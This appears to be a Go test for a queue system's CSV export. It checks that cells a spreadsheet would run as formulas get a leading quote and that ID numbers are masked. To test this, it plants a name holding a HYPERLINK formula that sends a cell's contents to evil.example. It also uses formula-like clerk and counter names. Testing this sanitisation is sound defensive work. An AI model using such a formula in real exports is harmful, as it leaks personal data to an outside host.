package main

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"io"
	"log/slog"
	"net"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	bolt "go.etcd.io/bbolt"

	"github.com/loket-id/loket/internal/csvsafe"
	"github.com/loket-id/loket/queue"
	"github.com/loket-id/loket/store"
	"github.com/loket-id/loket/sync/central"
	"github.com/loket-id/loket/sync/station"
)

// TestCSVNeutralisesFormulas: loket-central's export and stats CSV put a
// single quote before a cell a spreadsheet would run (a name stored before
// registration refused it, a clerk or counter named "@SUM(...)"), and leave
// numbers as numbers.
func TestCSVNeutralisesFormulas(t *testing.T) {
	dir := t.TempDir()
	data := filepath.Join(dir, "data")
	const placeholder = "Legacy Placeholder"
	legacy := `=HYPERLINK("http://evil.example/?d="&H2,"Klik")`
	const nik = "3201014107900001"
	jakarta, err := time.LoadLocation("Asia/Jakarta")
	if err != nil {
		t.Fatal(err)
	}
	now := time.Date(2026, 11, 27, 9, 30, 0, 0, jakarta)

	// A counter registers and calls a walk-in and syncs it to a real server on loopback.
	cst, err := central.OpenBolt(data, time.Second)
	if err != nil {
		t.Fatal(err)
	}
	_, token, err := cst.AddStation("3273", "L1", "", time.Now())
	if err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	served := make(chan struct{})
	go func() {
		defer close(served)
		(&central.Server{Storage: cst, Log: slog.New(slog.NewTextHandler(io.Discard, nil))}).Serve(ctx, ln, "", "")
	}()
	st, err := store.Open(filepath.Join(dir, "counter.db"), store.Options{Location: jakarta, Clock: func() time.Time { return now }})
	if err != nil {
		t.Fatal(err)
	}
	by := queue.Actor{Counter: "-2+3", Clerk: "@SUM(1+1)"}
	if _, err := st.Register(ctx, queue.NewRequest{Service: "A", Name: placeholder, NIK: nik, Phone: "081234567890"}, by); err != nil {
		t.Fatal(err)
	}
	now = now.Add(10 * time.Minute)
	if _, err := st.CallNext(ctx, nil, by); err != nil {
		t.Fatal(err)
	}
	res, err := (&station.Client{URL: "http://" + ln.Addr().String(), Token: token, Store: st}).Sync(ctx)
	if err != nil || res.Pending != 0 {
		t.Fatalf("sync: %+v %v", res, err)
	}
	st.Close()
	cancel()
	<-served
	cst.Close()
	legacyName(t, filepath.Join(data, "central.db"), placeholder, legacy)

	masked, errOut, code := run(t, dir, "export", "--format", "csv", "--timezone", "Asia/Jakarta")
	if mrows := csvCells(t, "export", masked); code != 0 || len(mrows) != 2 || mrows[1][column(t, mrows, "nik")] != "************0001" ||
		strings.Contains(masked, nik) || strings.Contains(masked, "81234567890") {
		t.Errorf("masked export: exit %d %q\n%s", code, errOut, masked)
	}
	out, errOut, code := run(t, dir, "export", "--format", "csv", "--timezone", "Asia/Jakarta", "--unmasked")
	if code != 0 {
		t.Fatalf("export: exit %d %q", code, errOut)
	}
	rows := csvCells(t, "export", out)
	if len(rows) != 2 {
		t.Fatalf("export: %q", rows)
	}
	for col, want := range map[string]string{
		"name": "'" + legacy, "nik": nik, "phone": "+6281234567890", "clerk": "'@SUM(1+1)", "counter": "'-2+3",
		"arrived_at": "2026-11-27T09:30:00+07:00", "called_at": "2026-11-27T09:40:00+07:00",
	} {
		if got := rows[1][column(t, rows, col)]; got != want {
			t.Errorf("export %s = %q; want %q", col, got, want)
		}
	}
	out, _, _ = run(t, dir, "export", "--format", "json", "--timezone", "Asia/Jakarta")
	var objs []map[string]string
	if err := json.Unmarshal([]byte(out), &objs); err != nil || len(objs) != 1 || objs[0]["name"] != legacy {
		t.Errorf("export json = %q, %v; want the name as stored", out, err)
	}

	for by, want := range map[string]string{"clerk": "'@SUM(1+1)", "counter": "'-2+3"} {
		out, errOut, code := run(t, dir, "stats", "--format", "csv", "--by", by, "--from", "2026-11-27", "--timezone", "Asia/Jakarta")
		if code != 0 {
			t.Fatalf("stats: exit %d %q", code, errOut)
		}
		rows := csvCells(t, "stats --by "+by, out)
		if len(rows) != 2 || rows[1][0] != want {
			t.Errorf("stats --by %s csv = %q; want key %q", by, out, want)
			continue
		}
		for j, c := range rows[1][1:] {
			if _, err := strconv.ParseFloat(c, 64); err != nil {
				t.Errorf("stats --by %s: %s = %q is not a number", by, rows[0][j+1], c)
			}
		}
		if w := rows[1][column(t, rows, "wait_avg")]; w != "600" {
			t.Errorf("stats --by %s: wait_avg = %q; want 600", by, w)
		}
	}
}

// legacyName rewrites, in the requests bucket of a closed database, every
// JSON occurrence of placeholder to name: a request stored before names
// were checked for formulas.
func legacyName(t *testing.T, dbPath, placeholder, name string) {
	t.Helper()
	db, err := bolt.Open(dbPath, 0o600, &bolt.Options{Timeout: 5 * time.Second})
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	from, _ := json.Marshal(placeholder)
	to, _ := json.Marshal(name)
	n := 0
	err = db.Update(func(tx *bolt.Tx) error {
		b := tx.Bucket([]byte("personal")) // names are kept there (protocol v2)
		changed := map[string][]byte{}
		if err := b.ForEach(func(k, v []byte) error {
			if s := string(v); strings.Contains(s, string(from)) {
				changed[string(k)] = []byte(strings.ReplaceAll(s, string(from), string(to)))
			}
			return nil
		}); err != nil {
			return err
		}
		for k, v := range changed {
			if err := b.Put([]byte(k), v); err != nil {
				return err
			}
			n++
		}
		return nil
	})
	if err != nil || n == 0 {
		t.Fatalf("rewrite %q to %q in %s: %d personal parts, %v", placeholder, name, dbPath, n, err)
	}
}

// csvCells parses out and checks that no cell would run as a formula.
func csvCells(t *testing.T, what, out string) [][]string {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("%s: %v\n%s", what, err, out)
	}
	for i, r := range rows {
		for j, c := range r {
			if csvsafe.NeedsQuote(c) {
				t.Errorf("%s: row %d column %d = %q would run as a formula", what, i, j, c)
			}
		}
	}
	return rows
}

func column(t *testing.T, rows [][]string, name string) int {
	t.Helper()
	for i, c := range rows[0] {
		if c == name {
			return i
		}
	}
	t.Fatalf("no column %q in %q", name, rows[0])
	return -1
}
